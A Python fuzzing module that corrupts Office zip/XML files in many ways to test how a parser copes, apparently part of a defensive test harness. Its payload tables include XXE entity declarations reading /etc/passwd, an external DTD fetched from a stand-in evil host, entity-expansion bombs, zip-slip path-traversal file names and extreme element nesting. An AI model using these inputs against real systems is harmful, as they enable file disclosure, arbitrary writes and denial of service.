"""Office files harmed in every way that a zip and its XML can be: bytes, directory, parts, elements, references."""

import io
import random
import re
import struct
import zipfile

from attack import pieces

Parts = list[tuple[str, bytes]]

DTDS = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]>',
)
NAMES = (
    "../../evil.txt",
    "/etc/evil.txt",
    "C:\\evil.txt",
    "..\\..\\evil.txt",
    "xl/../../evil.txt",
    "a" * 300,
    "",
    "CON",
    "xl/worksheets/../worksheets/sheet1.xml",
    "evil\x00.txt",
)


def parts_of(data: bytes) -> Parts:
    """The parts of a zip, in order."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [(info.filename, package.read(info)) for info in package.infolist()]


def packed(parts: Parts, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of parts; names may repeat and may be any text."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression, compresslevel=1) as package:
        for name, content in parts:
            info = zipfile.ZipInfo("x")
            info.filename = name
            info.compress_type = compression
            package.writestr(info, content)
    return stream.getvalue()


def harmed(data: bytes, hand: random.Random) -> bytes:
    """`data`, an Office file, harmed in one or several ways."""
    if hand.random() < 0.2:
        return bytes_changed(data, hand)
    parts = parts_of(data)
    for _ in range(hand.choice((1, 1, 1, 2, 4))):
        parts = hand.choice(_DEEDS)(parts, hand)
    made = packed(parts, hand.choice((zipfile.ZIP_DEFLATED,) * 5 + (zipfile.ZIP_STORED, zipfile.ZIP_BZIP2)))
    return _directory_changed(made, hand) if hand.random() < 0.1 else made


def bytes_changed(data: bytes, hand: random.Random) -> bytes:
    """A file cut, lengthened, or with single bytes changed."""
    kind = hand.random()
    if kind < 0.3:
        return data[: hand.randrange(len(data))]
    if kind < 0.4:
        return data[hand.randrange(len(data)) :]
    if kind < 0.5:
        return data + hand.randbytes(hand.choice((1, 22, 5000)))
    changed = bytearray(data)
    for _ in range(hand.choice((1, 3, 30))):
        changed[hand.randrange(len(changed))] = hand.randrange(256)
    return bytes(changed)


def _directory_changed(data: bytes, hand: random.Random) -> bytes:
    """A wrong checksum, size, method, flag, offset or count in the directory of the zip."""
    changed = bytearray(data)
    entries = [found.start() for found in re.finditer(b"PK\x01\x02", data)]
    place = hand.choice(entries)
    offset, form = hand.choice(((16, "<I"), (20, "<I"), (24, "<I"), (10, "<H"), (8, "<H"), (42, "<I"), (28, "<H")))
    struct.pack_into(form, changed, place + offset, hand.choice((0, 1, 0xFFFF, 8, 99, hand.randrange(1 << 16))))
    return bytes(changed)


def _part(parts: Parts, hand: random.Random) -> int:
    """One of the parts, those that matter more often."""
    wanted = [
        index
        for index, (name, _) in enumerate(parts)
        if re.search(r"sheet\d*\.xml|workbook\.xml|sharedStrings|styles|document\.xml|rels$|Content_Types", name)
    ]
    return hand.choice(wanted) if wanted and hand.random() < 0.9 else hand.randrange(len(parts))


def _replaced(parts: Parts, index: int, content: bytes) -> Parts:
    return [*parts[:index], (parts[index][0], content), *parts[index + 1 :]]


def _without(parts: Parts, hand: random.Random) -> Parts:
    return [part for index, part in enumerate(parts) if index != _part(parts, hand)] or parts


def _twice(parts: Parts, hand: random.Random) -> Parts:
    name, content = parts[_part(parts, hand)]
    return [*parts, (name, hand.choice((content, b"", b"<x/>", parts[_part(parts, hand)][1])))]


def _stranger(parts: Parts, hand: random.Random) -> Parts:
    return [*parts, (hand.choice(NAMES), hand.choice((b"evil", b"", b"<x/>")))]


def _swapped(parts: Parts, hand: random.Random) -> Parts:
    one, other = _part(parts, hand), _part(parts, hand)
    return _replaced(parts, one, parts[other][1])


def _garbled(parts: Parts, hand: random.Random) -> Parts:
    index = _part(parts, hand)
    content = bytearray(parts[index][1] or b"x")
    for _ in range(hand.choice((1, 3, 20))):
        place = hand.randrange(len(content))
        content[place : place + hand.randrange(4)] = hand.choice((hand.randbytes(2), b"<", b">", b"&", b'"', b"9", b""))
        content = content or bytearray(b" ")
    return _replaced(parts, index, bytes(content))


def _cut(parts: Parts, hand: random.Random) -> Parts:
    index = _part(parts, hand)
    return _replaced(parts, index, parts[index][1][: hand.randrange(len(parts[index][1]) + 1)])


def _with_dtd(parts: Parts, hand: random.Random) -> Parts:
    index = _part(parts, hand)
    head, mark, body = parts[index][1].partition(b"?>")
    return _replaced(parts, index, head + mark + hand.choice(DTDS) + body if mark else hand.choice(DTDS) + head)


def _recoded(parts: Parts, hand: random.Random) -> Parts:
    index = _part(parts, hand)
    try:
        text = parts[index][1].decode("utf-8")
    except UnicodeDecodeError:
        return parts
    encoding = hand.choice(("utf-16", "utf-16-be", "gb18030", "utf-8-sig", "utf-32", "utf-7"))
    named = text.replace("UTF-8", hand.choice(("UTF-8", encoding, "GBK", "nonsense")))
    return _replaced(parts, index, named.encode(encoding, errors="replace"))


_VALUE = re.compile(rb'(?<== |[a-zA-Z]=)"[^"<]{0,200}"|(?<=>)[^<>]{1,200}(?=</)')
_ELEMENT = re.compile(rb"<(\w+:)?(c|row|v|f|t|si|is|mergeCell|definedName|sheet|xf|numFmt|w:\w+|Relationship)\b[^<>]*>")


def _values_changed(parts: Parts, hand: random.Random) -> Parts:
    """Attributes and texts exchanged for numbers, references and words that fit nowhere."""
    index = _part(parts, hand)
    content = parts[index][1]
    found = list(_VALUE.finditer(content[:400_000]))
    if not found:
        return parts
    for item in sorted(hand.sample(found, min(len(found), hand.choice((1, 2, 8)))), key=lambda one: -one.start()):
        new = _odd_value(hand)
        content = content[: item.start()] + (b'"%s"' % new if item[0][:1] == b'"' else new) + content[item.end() :]
    return _replaced(parts, index, content)


def _odd_value(hand: random.Random) -> bytes:
    if hand.random() < 0.4:
        text = "".join(char for char in pieces.text(hand)[:3_000] if char >= " " and not "\ud800" <= char <= "\udfff")
        return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").encode()
    return hand.choice((
        b"-1", b"0", b"99999999999999999999", b"1e400", b"NaN", b"", b"A0", b"XFE1048577", b"AAAA1",
        b"A1:A99999999", b"B2:A1", b"A1", b"s", b"d", b"b", b"e", b"inlineStr", b"str",
        b"2021-99-99T00:00:00", b"99999999-01-01", b"2021-01-01", "自评表!$A$1".encode(), b"#REF!",
        b"Sheet9!$A$1:$XFD$1048576", b"[1]x!$A$1", b"true", b"1.5", b"-0", b"&#0;", b"&#xD800;", b"&#1114112;",
        b"&nope;", b"_xD800_", b"_x0000_", b"../../x.xml", b"http://evil.invalid/", b"rId99", b"0x10",
        "٣".encode(), "１２".encode(),
    ))  # fmt: skip


def _elements_moved(parts: Parts, hand: random.Random) -> Parts:
    """Elements doubled, left out, or put inside one another."""
    index = _part(parts, hand)
    content = parts[index][1]
    found = list(_ELEMENT.finditer(content[:400_000]))
    if not found:
        return parts
    item = hand.choice(found)
    deed = hand.random()
    if deed < 0.3:
        content = content[: item.start()] + content[item.end() :]
    elif deed < 0.6:
        content = content[: item.start()] + item[0] * hand.choice((2, 3, 500)) + content[item.end() :]
    else:
        other = hand.choice(found)
        content = content[: item.start()] + other[0] + content[item.start() :]
    return _replaced(parts, index, content)


def _deep(parts: Parts, hand: random.Random) -> Parts:
    """Elements nested far beyond what any program writes."""
    index = _part(parts, hand)
    content = parts[index][1]
    tag = hand.choice((b"x", b"c", b"row", b"w:tbl", b"w:sdt", b"w:ins", b"is", b"r"))
    depth = hand.choice((50, 2_000, 100_000))
    place = content.find(b">", hand.randrange(len(content) + 1)) + 1
    nest = b"<%s>" % tag * depth + b"</%s>" % tag * depth
    return _replaced(parts, index, content[:place] + nest + content[place:])


_DEEDS = (
    _without, _twice, _stranger, _swapped, _garbled, _garbled, _cut, _with_dtd, _recoded,
    _values_changed, _values_changed, _values_changed, _values_changed, _elements_moved, _elements_moved, _deep,
)  # fmt: skip
